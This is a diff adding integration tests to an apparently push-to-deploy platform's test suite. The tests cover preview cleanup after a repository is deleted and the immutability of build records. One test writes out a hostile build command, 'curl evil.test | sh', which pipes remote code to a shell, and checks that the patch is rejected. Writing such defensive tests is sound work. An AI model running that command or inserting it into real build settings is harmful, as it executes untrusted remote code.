@@ -208,6 +208,29 @@ describe('push to deploy', () => {
     await servedEverywhere([runtime], host('held'), 'built at the next push', 60_000);
   });
 
+  it('retires the previews of a source whose repository is deleted', { timeout: 120_000 }, async () => {
+    const gone = await appWithRepository('gone', 'gone-site');
+    await sources.create({ metadata: { name: 'gone', namespace: project }, spec: { app: 'gone', repository: { owner: project, name: 'gone-site' } } });
+    await git.commit(gone.work, 'main', worker('gone main'));
+    await git.run(['push', '-q', gone.remote, 'main'], { cwd: gone.work });
+    await git.run(['checkout', '-q', '-b', 'topic'], { cwd: gone.work });
+    await git.commit(gone.work, 'topic', worker('gone topic'));
+    await git.run(['push', '-q', gone.remote, 'topic'], { cwd: gone.work });
+    await servedEverywhere([runtime], host('topic--gone'), 'gone topic', 60_000);
+
+    await repositories.delete(project, 'gone-site');
+    await eventually(
+      'the preview app gone',
+      () => apps.get(project, 'topic--gone'),
+      (a) => a === undefined,
+      60_000,
+    );
+    const source = await sources.get(project, 'gone');
+    expect(findCondition(source?.status?.conditions, 'Ready')?.reason).toBe('RepositoryNotFound');
+    // The production app is the user's: it stays, serving what it served.
+    await servedEverywhere([runtime], host('gone'), 'gone main');
+  });
+
   it('loses no deploy when the operator is killed in the middle of a build', { timeout: 180_000 }, async () => {
     const slow = await appWithRepository('slow', 'slow-site');
     // The build sleeps 3 s before its output exists, so the kill lands while it runs.
@@ -272,5 +295,12 @@ describe('push to deploy', () => {
     expect(failed?.status?.message).toContain(`the repository ${victim}/secret is not ready in this project`);
     expect((await artifacts.list(appArtifactPrefix(project, 'thief'))).items).toEqual([]);
     expect((await apps.get(project, 'thief'))?.spec.activeBuildId).toBeUndefined();
+
+    // Its record stays what was built: nothing added or taken away, and a cancel is never undone.
+    const name = `thief-${secret.slice(0, 12)}`;
+    await expect(builds.patch(project, name, { spec: { build: { command: 'curl evil.test | sh' } } })).rejects.toThrow(/immutable but for spec.cancelled/);
+    await expect(builds.patch(project, name, { spec: { environment: { TOKEN: 'x' } } })).rejects.toThrow(/immutable but for spec.cancelled/);
+    await builds.patch(project, name, { spec: { cancelled: true } });
+    await expect(builds.patch(project, name, { spec: { cancelled: false } })).rejects.toThrow(/stays cancelled/);
   });
 });
